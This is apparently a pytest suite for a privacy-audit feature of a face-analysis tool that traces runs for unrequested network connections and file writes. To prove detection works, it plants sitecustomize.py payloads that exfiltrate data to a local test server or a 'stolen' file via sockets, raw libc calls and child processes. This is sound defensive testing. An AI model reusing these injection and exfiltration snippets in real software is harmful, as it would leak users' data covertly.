"""The privacy check: a clean run leaves nothing; a planted upload, a planted file and a native connection are found."""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from numclip.cli.main import main
from numclip.doctor import PrivacyOptions, privacy
from numclip.doctor.tracing import _strace_works, read_strace, watch
from numclip.errors import DeviceError, SourceError

needs_strace = pytest.mark.skipif(not _strace_works(), reason="needs strace, and permission to trace")
TRACERS = [pytest.param("strace", marks=needs_strace), "hooks"]


@pytest.fixture(scope="module")
def portrait() -> Path:
    cbook = pytest.importorskip("matplotlib.cbook", reason="needs the extra demo")
    return Path(str(cbook.get_sample_data("grace_hopper.jpg", asfileobj=False)))


@pytest.fixture
def server() -> Iterator[tuple[int, list[bytes]]]:
    """A local server that records what it receives; returns its port and the records."""
    taken: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(60)

        def serve() -> None:
            try:
                while True:
                    with listener.accept()[0] as connection:
                        taken.append(connection.recv(1000))
            except OSError:
                return

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield listener.getsockname()[1], taken


@pytest.mark.parametrize("tracer", TRACERS)
def test_a_run_leaves_nothing(portrait: Path, tracer: str) -> None:
    """A run on a picture writes only the JSON lines that a flag asked for."""
    found = privacy(PrivacyOptions(portrait, tracer=tracer))
    assert found.clean and found.sockets == found.files == () and found.exit_code == 0
    assert [Path(path).name for path in found.asked] == ["ages.jsonl"]


@needs_strace
def test_what_flags_ask_for_is_no_leak(portrait: Path, tmp_path: Path) -> None:
    """An audit file with its head, a table and a recording are listed as requested by flags."""
    names = [tmp_path / name for name in ("audit", "out.csv", "run.rec")]
    flags = ["--gate", "18", "--audit", str(names[0]), "--csv", str(names[1]), "--record", str(names[2])]
    found = privacy(PrivacyOptions(portrait, flags))
    assert found.clean, found
    assert {*map(str, names), f"{names[0]}.head"} <= set(found.asked)


def _plant(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: str) -> None:
    """Plant code that runs inside the traced process, as a malicious dependency would."""
    (tmp_path / "sitecustomize.py").write_text(code)
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(tmp_path), *filter(None, [os.environ.get("PYTHONPATH")])]))


UPLOAD = """
import atexit, socket
def send():
    with socket.create_connection(("127.0.0.1", {port})) as s:
        s.sendall(b"a face")
atexit.register(send)
"""
FILE = """
import atexit
atexit.register(lambda: open({path!r}, "wb").write(b"a face"))
"""
NATIVE = """
import atexit, ctypes, struct
def send():
    libc = ctypes.CDLL(None)
    fd = libc.socket(2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack("!H", {port}) + bytes([127, 0, 0, 1]) + bytes(8)
    libc.connect(fd, address, 16)
    libc.send(fd, b"a face", 6, 0)
    out = libc.open({path!r}.encode(), 0o101, 0o600)
    libc.write(out, b"a face", 6)
atexit.register(send)
"""
CHILD = """
import atexit, subprocess, sys, os
if not os.environ.get("PLANTED"):
    code = "import socket; socket.create_connection(('127.0.0.1', {port})).sendall(b'a face'); open({path!r}, 'w').write('a face')"
    atexit.register(lambda: subprocess.run([sys.executable, "-c", code], env={{**os.environ, "PLANTED": "1"}}))
"""


@pytest.mark.parametrize("tracer", TRACERS)
def test_a_planted_upload_is_caught(portrait, tmp_path, monkeypatch, server, tracer, capsys) -> None:
    """The server received the bytes, its address is listed, and the exit code is 1."""
    port, taken = server
    _plant(tmp_path, monkeypatch, UPLOAD.format(port=port))
    assert main(["doctor", "--privacy", "--clip", str(portrait), "--tracer", tracer, "--json", "-"]) == 1
    found = json.loads(capsys.readouterr().out)
    assert taken == [b"a face"] and found["tracer"] == tracer and found["clean"] is False
    assert any(str(port) in where for where in found["sockets"]) and found["files"] == []


@pytest.mark.parametrize("tracer", TRACERS)
def test_a_planted_file_is_caught(portrait, tmp_path, monkeypatch, tracer, capsys) -> None:
    """The file exists, its path is listed, and the exit code is 1."""
    path = tmp_path / "stolen"
    _plant(tmp_path, monkeypatch, FILE.format(path=str(path)))
    assert main(["doctor", "--privacy", "--clip", str(portrait), "--tracer", tracer]) == 1
    said = capsys.readouterr().out
    assert path.read_bytes() == b"a face" and f"FILE       {path}" in said
    assert "opened sockets or wrote files that no flag asked for" in said


@needs_strace
@pytest.mark.parametrize("code", [NATIVE, CHILD], ids=["native code", "a child process"])
def test_what_python_does_not_see_is_caught(portrait, tmp_path, monkeypatch, server, code: str) -> None:
    """A connection and a file made by native code, or by a child process, are found by strace."""
    (port, taken), path = server, tmp_path / "stolen"
    _plant(tmp_path, monkeypatch, code.format(port=port, path=str(path)))
    found = privacy(PrivacyOptions(portrait, tracer="strace"))
    assert taken == [b"a face"] and path.exists()
    assert f"connect 127.0.0.1:{port}" in found.sockets and str(path) in found.files and not found.clean


@needs_strace
def test_ways_to_write(tmp_path: Path) -> None:
    """Files that are created, renamed, linked or deleted again, and new folders, are listed; reads are not."""
    code = f"""
import os
os.chdir({str(tmp_path)!r})
open("made", "w").close(); os.rename("made", "renamed"); os.link("renamed", "linked"); os.mkdir("folder")
open("folder/inner", "w").close(); os.symlink("renamed", "pointer"); open("gone", "w").close(); os.remove("gone")
open("renamed").close()
"""
    found = watch([sys.executable, "-c", code], [], "strace")
    names = {"made", "renamed", "linked", "folder", "folder/inner", "pointer", "gone"}
    assert {Path(path).relative_to(tmp_path).as_posix() for path in found.files} == names


def test_lines_of_a_trace() -> None:
    """Trace lines give addresses of both families, failed attempts included, interrupted calls, and local sockets; reads give
    nothing."""
    lines = [
        '7 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("192.0.2.7")}, 16) = -1 EINPROGRESS (Now)',
        '7 sendto(4<UDPv6:[2]>, ""..., 9, 0, {sa_family=AF_INET6, sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = 9',
        '8 openat(AT_FDCWD</a>, "b.txt", O_WRONLY|O_CREAT|O_TRUNC, 0666 <unfinished ...>',
        '7 connect(5<UNIX:[3]>, {sa_family=AF_UNIX, sun_path="/run/log"}, 20) = 0',
        "8 <... openat resumed>) = 5</a/b.txt>",
        '8 openat(AT_FDCWD</a>, "c", O_RDONLY|O_CLOEXEC) = 6</a/c>',
        '8 openat(AT_FDCWD</a>, "d", O_WRONLY|O_CREAT, 0666) = -1 EACCES (Permission denied)',
        '8 mkdirat(7</a>, "e", 0777) = 0',
    ]
    sockets, files = read_strace(lines)
    assert sockets == {"connect 192.0.2.7:443", "sendto [2001:db8::1]:53", "connect unix:/run/log"}
    assert files == {"/a/b.txt", "/a/e"}


def test_bad_asks(tmp_path: Path) -> None:
    """A missing clip and a missing tracer are errors in one sentence."""
    with pytest.raises(SourceError, match="the clip does not exist"):
        privacy(PrivacyOptions(tmp_path / "none.mp4"))
    with pytest.raises(DeviceError, match="expected --tracer strace, hooks or auto"):
        watch([sys.executable, "-c", ""], [], "magic")
